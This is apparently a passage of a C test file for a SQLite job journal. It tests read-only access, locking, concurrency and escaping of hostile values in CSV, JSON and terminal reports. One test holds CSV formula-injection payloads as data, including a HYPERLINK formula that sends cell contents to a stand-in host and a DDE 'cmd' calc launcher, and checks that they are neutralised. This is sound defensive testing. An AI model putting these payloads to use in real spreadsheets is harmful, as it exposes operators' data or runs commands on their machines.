	struct journal *j = NULL;
	char *missing = tu_path(f->dir, "missing.db");
	char *nodir = tu_path(f->dir, "no/such/dir/journal.db");
	char *empty = tu_path(f->dir, "empty.db");
	char *err = NULL;

	assert_int_equal(journal_open(missing, true, &j, &err), -ENOENT);
	assert_null(j);
	assert_non_null(strstr(err, missing));
	free(err);
	err = NULL;
	/* A reader never creates it. */
	assert_int_equal(access(missing, F_OK), -1);

	assert_true(journal_open(nodir, false, &j, &err) < 0);
	assert_null(j);
	assert_non_null(strstr(err, nodir));
	free(err);
	err = NULL;

	tu_write_file(empty, "", 0);
	assert_int_equal(journal_open(empty, true, &j, &err), -EPROTO);
	assert_non_null(strstr(err, empty));
	free(err);

	free(missing);
	free(nodir);
	free(empty);
}

static void test_readonly_while_writer_open(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct journal *w = open_rw(f->path), *r = NULL;
	char *err = NULL, *buf = NULL;
	size_t len = 0;
	FILE *out;
	int64_t job;

	assert_int_equal(journal_job_start(w, &s, &job), 0);
	assert_int_equal(journal_open(f->path, true, &r, &err), 0);
	assert_int_equal(journal_job_start(r, &s, &job), -EROFS);
	assert_int_equal(journal_interrupt_running(r, "x"), -EROFS);

	out = open_memstream(&buf, &len);
	assert_int_equal(journal_report(r, REPORT_CSV, out), 0);
	fclose(out);
	assert_non_null(strstr(buf, "0x1234abcd"));
	free(buf);

	/* A job ended after the reader opened is seen by its next report. */
	assert_int_equal(journal_job_end(w, job, &(struct job_end){ .outcome = OUTCOME_TIMEOUT }),
			 0);
	out = open_memstream(&buf, &len);
	assert_int_equal(journal_report(r, REPORT_CSV, out), 0);
	fclose(out);
	assert_non_null(strstr(buf, "timeout"));
	free(buf);

	journal_close(r);
	journal_close(w);
}

/*
 * An operator (not root) reading the daemon's journal from a directory they
 * may not write, after the daemon has stopped: possible only because the
 * -wal/-shm files are kept. Needs root to become "nobody".
 */
/* In a forked child: as "nobody", read the journal; the exit code says how it went. */
static int read_as_nobody(const char *path, const char *dir)
{
	struct journal *r = NULL;
	char *err = NULL;
	FILE *null;
	int ret;

	if (setgid(65534) < 0 || setuid(65534) < 0)
		return 77;
	if (access(path, R_OK) < 0)
		return 77; /* a parent directory is closed to nobody */
	if (access(dir, W_OK) == 0)
		return 3;
	if (journal_open(path, true, &r, &err) < 0) {
		ret = err && strstr(err, "-wal") && strstr(err, path) ? 10 : 2;
		free(err);
		return ret;
	}
	null = fopen("/dev/null", "we");
	ret = null && journal_report(r, REPORT_JSON, null) == 0 ? 0 : 1;
	if (null)
		fclose(null);
	journal_close(r);
	return ret;
}

static void test_readonly_unwritable_dir(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	char wal[4096], shm[4096];
	struct journal *j;
	int64_t job;
	int status;
	pid_t pid;

	if (geteuid() != 0)
		skip();
	j = open_rw(f->path);
	assert_int_equal(journal_job_start(j, &s, &job), 0);
	journal_close(j);
	snprintf(wal, sizeof(wal), "%s-wal", f->path);
	snprintf(shm, sizeof(shm), "%s-shm", f->path);
	assert_int_equal(chmod(f->dir, 0755), 0);
	assert_int_equal(chmod(f->path, 0644), 0);
	assert_int_equal(chmod(wal, 0644), 0);
	assert_int_equal(chmod(shm, 0644), 0);

	for (int round = 0; round < 2; round++) {
		if (round == 1) {
			/* Without them a reader cannot start, and says why. */
			assert_int_equal(unlink(wal), 0);
			assert_int_equal(unlink(shm), 0);
		}
		fflush(NULL);
		pid = fork();
		assert_true(pid >= 0);
		if (pid == 0)
			_exit(read_as_nobody(f->path, f->dir));
		assert_int_equal(waitpid(pid, &status, 0), pid);
		assert_true(WIFEXITED(status));
		if (WEXITSTATUS(status) == 77)
			skip();
		assert_int_equal(WEXITSTATUS(status), round == 0 ? 0 : 10);
	}
}

/* --- concurrency ------------------------------------------------------------- */

static void test_concurrent_reader(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct job_end e = { .outcome = OUTCOME_SUCCESS, .bytes_written = 5 };
	struct journal *j = open_rw(f->path);
	sqlite3_stmt *st;
	sqlite3 *db;
	int64_t a, b;

	assert_int_equal(journal_job_start(j, &s, &a), 0);
	/* A long report: a read transaction held open on another connection. */
	db = db_open(f->path);
	assert_int_equal(sqlite3_exec(db, "BEGIN", NULL, NULL, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_prepare_v2(db, "SELECT job FROM jobs", -1, &st, NULL), SQLITE_OK);
	assert_int_equal(sqlite3_step(st), SQLITE_ROW);

	assert_int_equal(journal_job_end(j, a, &e), 0);
	assert_int_equal(journal_job_start(j, &s, &b), 0);
	assert_int_equal(journal_job_end(j, b, &e), 0);
	assert_int_equal(journal_interrupt_running(j, "x"), 0);

	sqlite3_finalize(st);
	assert_int_equal(sqlite3_exec(db, "COMMIT", NULL, NULL, NULL), SQLITE_OK);
	check_text(db, a, "outcome", "success");
	check_text(db, b, "outcome", "success");
	sqlite3_close(db);
	journal_close(j);
}

struct holder {
	sqlite3 *db;
	long ms;
};

static void *release_later(void *arg)
{
	struct holder *h = arg;

	sleep_ms(h->ms);
	sqlite3_exec(h->db, "COMMIT", NULL, NULL, NULL);
	return NULL;
}

/* Another writer holding the lock for a moment delays a write; it does not fail it. */
static void test_busy_writer_waits(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct job_end e = { .outcome = OUTCOME_VERIFY_FAILED, .error = "range 3 differs" };
	struct journal *j = open_rw(f->path);
	struct holder h = { .ms = 300 };
	struct timespec t0, t1;
	pthread_t thread;
	int64_t job;
	double waited;

	assert_int_equal(journal_job_start(j, &s, &job), 0);
	h.db = db_open(f->path);
	assert_int_equal(sqlite3_exec(h.db, "BEGIN IMMEDIATE", NULL, NULL, NULL), SQLITE_OK);
	assert_int_equal(pthread_create(&thread, NULL, release_later, &h), 0);
	clock_gettime(CLOCK_MONOTONIC, &t0);
	assert_int_equal(journal_job_end(j, job, &e), 0);
	clock_gettime(CLOCK_MONOTONIC, &t1);
	assert_int_equal(pthread_join(thread, NULL), 0);
	waited = (double)(t1.tv_sec - t0.tv_sec) + (double)(t1.tv_nsec - t0.tv_nsec) / 1e9;
	assert_true(waited > 0.2);
	check_text(h.db, job, "outcome", "verify_failed");
	check_text(h.db, job, "error", "range 3 differs");
	sqlite3_close(h.db);
	journal_close(j);
}

/* --- reports -------------------------------------------------------------- */

/* A journal with a few hostile rows; returns the ids, newest last. */
static void fill_hostile(struct fixture *f, struct journal *j, int64_t ids[3])
{
	struct job_start s = plain_start();
	struct job_end e = {
		.outcome = OUTCOME_FAILED,
		.error = h_lines,
		.bytes_written = 77,
		.data_sha256 = h_sql,
		.readback_sha256 = NULL,
		.content_after = h_bad,
	};
	sqlite3 *db;

	s.serial = h_ctrl;
	s.vendor = h_quote;
	s.model = h_comma;
	s.profile = h_shell;
	s.image = h_utf8;
	s.slot = h_bad;
	s.devnode = f->h_long;
	s.mmc_name = h_sql;
	assert_int_equal(journal_job_start(j, &s, &ids[0]), 0);
	sleep_ms(20);
	assert_int_equal(journal_job_end(j, ids[0], &e), 0);

	s = plain_start();
	s.serial = f->h_long;
	assert_int_equal(journal_job_once(j, &s,
					  &(struct job_end){ .outcome = OUTCOME_REFUSED,
							     .error = h_ctrl },
					  &ids[1]),
			 0);
	s = (struct job_start){ .serial = h_bad };
	assert_int_equal(journal_job_start(j, &s, &ids[2]), 0);

	/* Stored exactly. */
	db = db_open(f->path);
	check_text(db, ids[0], "serial", h_ctrl);
	check_text(db, ids[0], "slot", h_bad);
	check_text(db, ids[0], "devnode", f->h_long);
	check_text(db, ids[0], "error", h_lines);
	check_text(db, ids[0], "content_after", h_bad);
	check_text(db, ids[1], "serial", f->h_long);
	sqlite3_close(db);
}

static char *report(struct journal *j, enum report_format fmt, size_t *ret_len)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	assert_non_null(out);
	assert_int_equal(journal_report(j, fmt, out), 0);
	assert_int_equal(fclose(out), 0);
	if (ret_len)
		*ret_len = len;
	return buf;
}

/* A strict RFC 4180 reader: records end in LF; CR only inside quotes. */
struct csv_field {
	char *s;
	size_t len;
};

struct csv_row {
	struct csv_field *f;
	size_t n;
};

static size_t csv_parse(const char *p, size_t len, struct csv_row **ret)
{
	struct csv_row *rows = NULL;
	size_t nrows = 0, i = 0;

	while (i < len) {
		struct csv_row row = { 0 };

		for (;;) {
			struct csv_field fl = { malloc(len + 1), 0 };

			assert_non_null(fl.s);
			if (p[i] == '"') {
				i++;
				for (;;) {
					assert_true(i < len);
					if (p[i] == '"' && i + 1 < len && p[i + 1] == '"') {
						fl.s[fl.len++] = '"';
						i += 2;
					} else if (p[i] == '"') {
						i++;
						break;
					} else {
						fl.s[fl.len++] = p[i++];
					}
				}
			} else {
				while (i < len && p[i] != ',' && p[i] != '\n') {
					assert_true(p[i] != '"' && p[i] != '\r');
					fl.s[fl.len++] = p[i++];
				}
			}
			fl.s[fl.len] = '\0';
			row.f = realloc(row.f, (row.n + 1) * sizeof(*row.f));
			row.f[row.n++] = fl;
			assert_true(i < len); /* every record ends in LF */
			if (p[i++] == '\n')
				break;
			assert_int_equal(p[i - 1], ',');
		}
		rows = realloc(rows, (nrows + 1) * sizeof(*rows));
		rows[nrows++] = row;
	}
	*ret = rows;
	return nrows;
}

static void csv_free(struct csv_row *rows, size_t n)
{
	for (size_t r = 0; r < n; r++) {
		for (size_t i = 0; i < rows[r].n; i++)
			free(rows[r].f[i].s);
		free(rows[r].f);
	}
	free(rows);
}

static const struct csv_field *csv_get(struct csv_row *rows, size_t row, const char *col)
{
	for (size_t i = 0; i < rows[0].n; i++)
		if (strcmp(rows[0].f[i].s, col) == 0)
			return &rows[row].f[i];
	fail_msg("no column %s", col);
	return NULL;
}

static void check_csv(struct csv_row *rows, size_t row, const char *col, const char *want)
{
	const struct csv_field *v = csv_get(rows, row, col);

	assert_int_equal(v->len, strlen(want));
	assert_memory_equal(v->s, want, v->len);
}

static void test_csv_hostile(void **state)
{
	static const char *const first[] = {
		"job",	 "started", "finished", "slot",	   "devnode",	    "serial",
		"vendor", "model",   "size",	 "profile", "image",	    "outcome",
		"error", "bytes_written", "data_sha256", "readback_sha256",
	};
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct csv_row *rows;
	int64_t ids[3];
	char *buf, idbuf[32];
	size_t len, n;

	buf = report(j, REPORT_CSV, &len);
	n = csv_parse(buf, len, &rows);
	assert_int_equal(n, 1); /* the header alone */
	for (size_t i = 0; i < sizeof(first) / sizeof(first[0]); i++)
		assert_string_equal(rows[0].f[i].s, first[i]);
	assert_int_equal(rows[0].n, 36);
	csv_free(rows, n);
	free(buf);

	fill_hostile(f, j, ids);
	buf = report(j, REPORT_CSV, &len);
	assert_int_equal(strlen(buf), len);
	n = csv_parse(buf, len, &rows);
	assert_int_equal(n, 4);
	for (size_t r = 0; r < n; r++)
		assert_int_equal(rows[r].n, 36);
	/* Newest first. */
	for (size_t r = 1; r < n; r++) {
		snprintf(idbuf, sizeof(idbuf), "%" PRId64, ids[3 - r]);
		check_csv(rows, r, "job", idbuf);
	}
	check_csv(rows, 3, "serial", h_ctrl);
	check_csv(rows, 3, "vendor", h_quote);
	check_csv(rows, 3, "model", h_comma);
	check_csv(rows, 3, "profile", h_shell);
	check_csv(rows, 3, "image", h_utf8);
	check_csv(rows, 3, "slot", h_bad);
	check_csv(rows, 3, "devnode", f->h_long);
	check_csv(rows, 3, "mmc_name", h_sql);
	check_csv(rows, 3, "error", h_lines);
	check_csv(rows, 3, "data_sha256", h_sql);
	check_csv(rows, 3, "readback_sha256", "");
	check_csv(rows, 3, "content_after", h_bad);
	check_csv(rows, 3, "outcome", "failed");
	check_csv(rows, 3, "bytes_written", "77");
	check_csv(rows, 3, "size", "31914983424");
	check_csv(rows, 3, "removable", "1");
	check_csv(rows, 2, "serial", f->h_long);
	check_csv(rows, 2, "error", h_ctrl);
	check_csv(rows, 2, "outcome", "refused");
	check_csv(rows, 2, "duration", "0.0");
	check_csv(rows, 1, "serial", h_bad);
	check_csv(rows, 1, "outcome", "running");
	check_csv(rows, 1, "finished", "");
	check_csv(rows, 1, "size", "");
	assert_true(strtod(csv_get(rows, 3, "duration")->s, NULL) > 0.0);
	assert_true(strtod(csv_get(rows, 3, "throughput")->s, NULL) > 0.0);
	csv_free(rows, n);
	free(buf);
	journal_close(j);
}

/* Runs python3's json module over @file; returns its output (one line per object). */
static char *python_json(const char *file)
{
	static const char script[] =
		"import json, sys\n"
		"d = json.load(open(sys.argv[1], encoding='utf-8', errors='strict'))\n"
		"assert isinstance(d, list)\n"
		"for o in d:\n"
		"    out = []\n"
		"    for k, v in o.items():\n"
		"        if v is None: out.append(k + '=null')\n"
		"        elif isinstance(v, str): out.append(k + '=str:' + v.encode().hex())\n"
		"        else: out.append(k + '=' + type(v).__name__ + ':' + repr(v))\n"
		"    print(' '.join(out))\n";
	char *cmd, *out;
	int status;

	if (system("command -v python3 >/dev/null 2>&1") != 0)
		skip();
	assert_true(asprintf(&cmd, "python3 -c \"$BMAP_PY\" '%s' >'%s.out'", file, file) > 0);
	setenv("BMAP_PY", script, 1);
	status = system(cmd);
	if (status != 0)
		fail_msg("python3 rejected the JSON report (status %d)", status);
	free(cmd);
	assert_true(asprintf(&cmd, "%s.out", file) > 0);
	out = tu_read_file(cmd, NULL);
	free(cmd);
	return out;
}

static char *hexstr(const char *s)
{
	char *h = malloc(2 * strlen(s) + 1);

	assert_non_null(h);
	for (size_t i = 0; s[i]; i++)
		sprintf(h + 2 * i, "%02x", (unsigned char)s[i]);
	h[2 * strlen(s)] = '\0';
	return h;
}

/* Line @idx (0 = first object) of python's output, with a space at each end. */
static char *json_line(const char *lines, int idx)
{
	const char *l = lines, *end;
	char *line;

	for (int i = 0; i < idx; i++) {
		l = strchr(l, '\n');
		assert_non_null(l);
		l++;
	}
	end = strchr(l, '\n');
	assert_non_null(end);
	assert_true(asprintf(&line, " %.*s ", (int)(end - l), l) > 0);
	return line;
}

static bool json_has(const char *lines, int idx, const char *token)
{
	char *line = json_line(lines, idx);
	bool found = strstr(line, token) != NULL;

	free(line);
	return found;
}

/* Object @idx has @key equal to the string @want (NULL: null). */
static void check_json(const char *lines, int idx, const char *key, const char *want)
{
	char *hex = want ? hexstr(want) : NULL, *token;

	if (want)
		assert_true(asprintf(&token, " %s=str:%s ", key, hex) > 0);
	else
		assert_true(asprintf(&token, " %s=null ", key) > 0);
	if (!json_has(lines, idx, token))
		fail_msg("%s not in object %d", token, idx);
	free(token);
	free(hex);
}

/*
 * CSV reports let spreadsheet formulas through: a serial "=HYPERLINK(...)"
 * became a live formula in the operator's spreadsheet. A text cell that
 * starts with =, +, -, @, a tab or a CR gets a ' in front (OWASP); numbers
 * and JSON stay as they are.
 */
static void test_csv_formula_neutralised(void **state)
{
	static const char *const evil[] = {
		"=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
		"-2+3", "@SUM(1,2)", "\tTAB", "\rCR", "safe=1",
	};
	static const char *const want[] = {
		"'=HYPERLINK(\"http://x.invalid/?\"&A1,\"click\")", "'+1+cmd|' /C calc'!A0",
		"'-2+3", "'@SUM(1,2)", "'\tTAB", "'\rCR", "safe=1",
	};
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct job_end e = { .outcome = OUTCOME_FAILED, .error = "-x", .bytes_written = 0 };
	struct csv_row *rows;
	size_t len, n, col_serial = 0, col_error = 0, col_size = 0;
	int64_t job;
	char *buf;

	for (size_t i = 0; i < sizeof(evil) / sizeof(evil[0]); i++) {
		struct job_start s = plain_start();

		s.serial = evil[i];
		assert_int_equal(journal_job_once(j, &s, &e, &job), 0);
	}
	buf = report(j, REPORT_CSV, &len);
	n = csv_parse(buf, len, &rows);
	assert_int_equal(n, 1 + sizeof(evil) / sizeof(evil[0]));
	for (size_t c = 0; c < rows[0].n; c++) {
		if (strcmp(rows[0].f[c].s, "serial") == 0)
			col_serial = c;
		else if (strcmp(rows[0].f[c].s, "error") == 0)
			col_error = c;
		else if (strcmp(rows[0].f[c].s, "size") == 0)
			col_size = c;
	}
	assert_true(col_serial && col_error && col_size);
	/* Newest first. */
	for (size_t i = 0; i < sizeof(evil) / sizeof(evil[0]); i++) {
		const struct csv_row *r = &rows[n - 1 - i];

		assert_int_equal(r->f[col_serial].len, strlen(want[i]));
		assert_memory_equal(r->f[col_serial].s, want[i], strlen(want[i]));
		assert_string_equal(r->f[col_error].s, "'-x");
		assert_string_equal(r->f[col_size].s, "31914983424");
	}
	csv_free(rows, n);
	free(buf);
	/* JSON keeps the values as they are. */
	buf = report(j, REPORT_JSON, &len);
	assert_non_null(strstr(buf, "\"serial\":\"=HYPERLINK("));
	assert_non_null(strstr(buf, "\"error\":\"-x\""));
	free(buf);
	journal_close(j);
}

static void test_json_hostile(void **state)
{
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	char *buf, *file, *lines, tok[64];
	int64_t ids[3];
	size_t len;

	buf = report(j, REPORT_JSON, &len);
	assert_string_equal(buf, "[]\n");
	free(buf);

	fill_hostile(f, j, ids);
	buf = report(j, REPORT_JSON, &len);
	assert_true(len > 2 && buf[len - 1] == '\n');
	file = tu_path(f->dir, "report.json");
	tu_write_file(file, buf, len);
	lines = python_json(file);

	/* Newest first; numbers are numbers. */
	for (int i = 0; i < 3; i++) {
		snprintf(tok, sizeof(tok), " job=int:%" PRId64 " ", ids[2 - i]);
		assert_true(json_has(lines, i, tok));
	}
	assert_true(json_has(lines, 2, " size=int:31914983424 "));
	assert_true(json_has(lines, 2, " bytes_written=int:77 "));
	assert_true(json_has(lines, 2, " duration=float:"));
	assert_true(json_has(lines, 2, " throughput=float:"));
	assert_true(json_has(lines, 2, " removable=int:1 "));
	assert_true(json_has(lines, 0, " finished=null"));
	assert_true(json_has(lines, 0, " size=null"));

	check_json(lines, 2, "serial", h_ctrl);
	check_json(lines, 2, "vendor", h_quote);
	check_json(lines, 2, "model", h_comma);
	check_json(lines, 2, "profile", h_shell);
	check_json(lines, 2, "image", h_utf8);
	check_json(lines, 2, "devnode", f->h_long);
	check_json(lines, 2, "mmc_name", h_sql);
	check_json(lines, 2, "error", h_lines);
	check_json(lines, 2, "readback_sha256", NULL);
	/* Invalid UTF-8 arrives as U+FFFD, and the document stays valid JSON. */
	check_json(lines, 2, "slot", h_bad_json);
	check_json(lines, 2, "content_after", h_bad_json);
	check_json(lines, 1, "serial", f->h_long);
	check_json(lines, 1, "error", h_ctrl);
	check_json(lines, 0, "serial", h_bad_json);

	free(lines);
	free(file);
	free(buf);
	journal_close(j);
}

static void test_table_hostile(void **state)
{
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	size_t len, lines = 0, width = 0;
	int64_t ids[3];
	char *buf;

	fill_hostile(f, j, ids);
	buf = report(j, REPORT_TABLE, &len);
	assert_int_equal(strlen(buf), len);
	assert_true(strncmp(buf, "JOB  ", 5) == 0);
	assert_non_null(strstr(buf, "MB/S"));
	assert_non_null(strstr(buf, "refused"));
	assert_non_null(strstr(buf, "\xe2\x80\xa6")); /* long values cut with an ellipsis */
	for (size_t i = 0; i < len; i++) {
		unsigned char c = (unsigned char)buf[i];

		/* Only line ends; no escape, tab, CR, BEL or DEL reaches the terminal. */
		assert_true(c == '\n' || (c >= 0x20 && c != 0x7f));
		if (c == '\n') {
			lines++;
			assert_true(width < 300);
			width = 0;
		} else if ((c & 0xc0) != 0x80) {
			width++; /* code points */
		}
	}
	assert_int_equal(lines, 4);
	/* Invalid UTF-8 became '?', valid UTF-8 stays. */
	assert_non_null(strstr(buf, "?[31mRED?[0m??bell?"));
	assert_null(strstr(buf, "\xff"));
	free(buf);
	journal_close(j);
}

/* --- the live table and status ----------------------------------------- */

static void live_row_add(struct journal *j, const char *syspath, const char *slot,
			 const char *serial, const char *state, uint64_t done, uint64_t total)
{
	struct live_row l = {
		.syspath = syspath, .station = "line-1", .slot = slot, .devnode = "/dev/sdb",
		.serial = serial, .profile = "pi", .state = state, .job = 1, .done = done,
		.total = total, .rate = total ? 2e6 : 0, .last_outcome = "success",
	};

	assert_int_equal(journal_live_set(j, &l), 0);
}

static char *status(struct journal *j, bool json)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);

	assert_non_null(out);
	assert_int_equal(journal_status(j, json, out), 0);
	assert_int_equal(fclose(out), 0);
	return buf;
}

/* The column (in code points) at which @word starts on @line, or -1. */
static long column_of(const char *line, const char *word)
{
	const char *at = strstr(line, word);
	long col = 0;

	if (!at)
		return -1;
	for (const char *p = line; p < at; p++)
		if (((unsigned char)*p & 0xc0) != 0x80)
			col++;
	return col;
}

/* A serial longer than its column pushed the rest of its row out of line. */
static void test_status_long_serial_keeps_columns(void **state)
{
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	/* The header's words, then each row's (rows go by slot). */
	static const char *const profile_at[] = { "PROFILE", "pi ", "pi ", "pi " };
	static const char *const state_at[] = { "STATE", "done", "writing", "waiting" };
	char *buf, *line, *save = NULL;
	long want_profile = -1, want_state = -1;
	unsigned rows = 0;

	live_row_add(j, "/sys/a", "slot-a", "A", "done", 0, 0);
	live_row_add(j, "/sys/b", "slot-b", "USB-SERIAL-0123456789ABCDEF-\xe2\x9c\x93", "writing",
		     150, 1000);
	live_row_add(j, "/sys/c", "slot-c", "C", "waiting", 0, 0);
	buf = status(j, false);
	for (line = strtok_r(buf, "\n", &save); line; line = strtok_r(NULL, "\n", &save)) {
		long p, s;

		assert_true(rows < 4);
		p = column_of(line, profile_at[rows]);
		s = column_of(line, state_at[rows]);
		assert_true(p > 0 && s > p);
		if (rows == 0) {
			want_profile = p;
			want_state = s;
		}
		assert_int_equal(p, want_profile);
		assert_int_equal(s, want_state);
		rows++;
	}
	assert_int_equal(rows, 4);
	free(buf);
	journal_close(j);
}

/*
 * A second `run` on the same journal marked the first one's running jobs
 * interrupted and cleared its live table. Now the first holds a lock (an
 * OFD lock, which conflicts between two opens in one process as between
 * two processes): the second refuses before touching anything, naming the
 * pid, and readers can tell whether a station runs.
 */
static void test_second_station_refused(void **state)
{
	struct fixture *f = *state;
	struct job_start s = plain_start();
	struct journal *first = NULL, *second = NULL, *reader = NULL;
	char *err = NULL, *link = tu_path(f->dir, "other-name.db"), want[64];
	int64_t job;
	pid_t pid = 0;
	sqlite3 *db;

	assert_int_equal(journal_open_station(f->path, &first, &err), 0);
	assert_null(err);
	assert_int_equal(journal_job_start(first, &s, &job), 0);
	live_row_add(first, "/sys/a", "slot-a", "A", "writing", 1, 2);

	snprintf(want, sizeof(want), "pid %d", (int)getpid());
	assert_int_equal(journal_open_station(f->path, &second, &err), -EBUSY);
	assert_null(second);
	assert_non_null(strstr(err, want));
	assert_non_null(strstr(err, f->path));
	free(err);
	err = NULL;
	/* Through another name of the same file too. */
	assert_int_equal(symlink(f->path, link), 0);
	assert_int_equal(journal_open_station(link, &second, &err), -EBUSY);
	assert_non_null(strstr(err, want));
	free(err);
	err = NULL;

	/* Nothing was touched: the job runs, the live row is there. */
	db = db_open(f->path);
	check_text(db, job, "outcome", "running");
	assert_int_equal(get_int(db, -1, "count(*) FROM live"), 1);
	sqlite3_close(db);

	assert_int_equal(journal_open(f->path, true, &reader, &err), 0);
	assert_int_equal(journal_station_pid(reader, &pid), 1);
	assert_int_equal(pid, getpid());
	journal_close(first);
	assert_int_equal(journal_station_pid(reader, &pid), 0);
	journal_close(reader);

	/* Once the first is gone, the next one starts. */
	assert_int_equal(journal_open_station(link, &second, &err), 0);
	journal_close(second);
	free(link);
}

/* --- filters, summary, history, several stations ------------------------- */

/* A finished job with the given fields; its times are set by set_times(). */
static int64_t add_job(struct journal *j, const char *station, const char *profile,
		       const char *slot, const char *serial, enum outcome o)
{
	struct job_start s = plain_start();
	struct job_end e = { .outcome = o, .error = o == OUTCOME_SUCCESS ? NULL : "why",
			     .bytes_written = 1000 };
	int64_t job;

	s.station = station;
	s.profile = profile;
	s.slot = slot;
	s.serial = serial;
	assert_int_equal(journal_job_once(j, &s, &e, &job), 0);
	return job;
}

/* Known times for @job; @duration or @throughput < 0 leaves them NULL. */
static void set_times(const char *path, int64_t job, const char *started, double duration,
		      double throughput)
{
	sqlite3 *db = db_open(path);
	sqlite3_stmt *st = NULL;

	assert_int_equal(sqlite3_prepare_v2(db,
					    "UPDATE jobs SET started = ?1, finished = ?1,"
					    " duration = ?2, throughput = ?3 WHERE job = ?4",
					    -1, &st, NULL),
			 SQLITE_OK);
	sqlite3_bind_text(st, 1, started, -1, SQLITE_STATIC);
	if (duration >= 0)
		sqlite3_bind_double(st, 2, duration);
	if (throughput >= 0)
		sqlite3_bind_double(st, 3, throughput);
	sqlite3_bind_int64(st, 4, job);
	assert_int_equal(sqlite3_step(st), SQLITE_DONE);
	assert_int_equal(sqlite3_changes(db), 1);
	sqlite3_finalize(st);
	sqlite3_close(db);
}

static struct journal *open_ro(const char *path)
{
	struct journal *j = NULL;
	char *err = NULL;

	if (journal_open(path, true, &j, &err) < 0)
		fail_msg("journal_open(%s, ro): %s", path, err);
	return j;
}

enum report_what { WHAT_JOBS, WHAT_HISTORY, WHAT_SUMMARY };

static char *report_f(struct journal *j, const struct report_filter *flt, enum report_what what,
		      enum report_format fmt, size_t *ret_len)
{
	char *buf = NULL;
	size_t len = 0;
	FILE *out = open_memstream(&buf, &len);
	int r;

	assert_non_null(out);
	if (what == WHAT_SUMMARY)
		r = journal_summary(j, flt, fmt, out);
	else
		r = journal_report_filtered(j, flt, what == WHAT_HISTORY, fmt, out);
	if (r < 0)
		fail_msg("report: %d %s", r, journal_error(j));
	assert_int_equal(fclose(out), 0);
	if (ret_len)
		*ret_len = len;
	return buf;
}

/* The jobs a CSV report lists, as "1,3,4" in report order. */
static char *csv_jobs(struct journal *j, const struct report_filter *flt, enum report_what what)
{
	struct csv_row *rows;
	size_t len, n;
	char *buf = report_f(j, flt, what, REPORT_CSV, &len), *ids = NULL;
	size_t ilen = 0;
	FILE *f = open_memstream(&ids, &ilen);

	n = csv_parse(buf, len, &rows);
	assert_true(n >= 1);
	for (size_t r = 1; r < n; r++) {
		const struct csv_field *v = csv_get(rows, r, "job");

		fprintf(f, "%s%s", r > 1 ? "," : "", v->s);
	}
	fclose(f);
	csv_free(rows, n);
	free(buf);
	return ids;
}

static void check_jobs(struct journal *j, const struct report_filter *flt, enum report_what what,
		       const char *want)
{
	char *got = csv_jobs(j, flt, what);

	if (strcmp(got, want) != 0)
		fail_msg("jobs: got '%s', want '%s'", got, want);
	free(got);
}

/*
 * Jobs 1..6: profile, slot, serial, outcome, started.
 * 1 pi    a  S1      success  2026-11-25T23:59:59.999Z
 * 2 pi    b  S2      failed   2026-11-26T00:00:00.000Z
 * 3 other a  S1      refused  2026-11-26T05:00:00.000Z
 * 4 pi    a  S1      success  2026-11-26T05:00:00.001Z
 * 5 pi    b  s1      ignored  2026-11-27T00:00:00.000Z
 * 6 pi    a  x,"y"   timeout  2026-11-26T12:00:00.000Z
 */
static void fill_filters(const char *path, struct journal *j)
{
	static const struct {
		const char *profile, *slot, *serial, *started;
		enum outcome o;
	} rows[] = {
		{ "pi", "a", "S1", "2026-11-25T23:59:59.999Z", OUTCOME_SUCCESS },
		{ "pi", "b", "S2", "2026-11-26T00:00:00.000Z", OUTCOME_FAILED },
		{ "other", "a", "S1", "2026-11-26T05:00:00.000Z", OUTCOME_REFUSED },
		{ "pi", "a", "S1", "2026-11-26T05:00:00.001Z", OUTCOME_SUCCESS },
		{ "pi", "b", "s1", "2026-11-27T00:00:00.000Z", OUTCOME_IGNORED },
		{ "pi", "a", "x,\"y\"", "2026-11-26T12:00:00.000Z", OUTCOME_TIMEOUT },
	};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		int64_t job = add_job(j, "line-1", rows[i].profile, rows[i].slot, rows[i].serial,
				      rows[i].o);

		assert_int_equal(job, (int64_t)i + 1);
		set_times(path, job, rows[i].started, 10.0, 1e6);
	}
}

static const char *ptime(const char *s, bool until)
{
	static char buf[2][JOURNAL_TIME_MAX];

	if (journal_parse_time(s, until, buf[until]) < 0)
		fail_msg("journal_parse_time(%s) failed", s);
	return buf[until];
}

static void test_report_filters(void **state)
{
	struct fixture *f = *state;
	struct journal *j = open_rw(f->path);
	struct report_filter flt = { 0 };

	fill_filters(f->path, j);
	/* No filter: all, newest first, as journal_report() does. */
	check_jobs(j, NULL, WHAT_JOBS, "6,5,4,3,2,1");
	check_jobs(j, &flt, WHAT_JOBS, "6,5,4,3,2,1");

	/* A day: since inclusive, until (a day alone) up to its end. */
	flt.since = ptime("2026-11-26", false);
	flt.until = ptime("2026-11-26", true);
	check_jobs(j, &flt, WHAT_JOBS, "6,4,3,2");
	/* A date-time until is exclusive; with or without Z it is UTC. */
	flt.until = ptime("2026-11-26T05:00", true);
	check_jobs(j, &flt, WHAT_JOBS, "2");
	flt.until = ptime("2026-11-26T05:00:00Z", true);
	check_jobs(j, &flt, WHAT_JOBS, "2");
	flt.since = ptime("2026-11-26T05:00:00", false);
	flt.until = NULL;
	check_jobs(j, &flt, WHAT_JOBS, "6,5,4,3");

	/* Exact matches, combined with AND. */
	flt = (struct report_filter){ .profile = "pi" };
	check_jobs(j, &flt, WHAT_JOBS, "6,5,4,2,1");
	flt.slot = "a";
	check_jobs(j, &flt, WHAT_JOBS, "6,4,1");
	flt.outcome = "success";
	check_jobs(j, &flt, WHAT_JOBS, "4,1");
	flt.since = ptime("2026-11-26", false);
	check_jobs(j, &flt, WHAT_JOBS, "4");
	flt = (struct report_filter){ .serial = "S1" };
	check_jobs(j, &flt, WHAT_JOBS, "4,3,1"); /* not s1: exact, case and all */
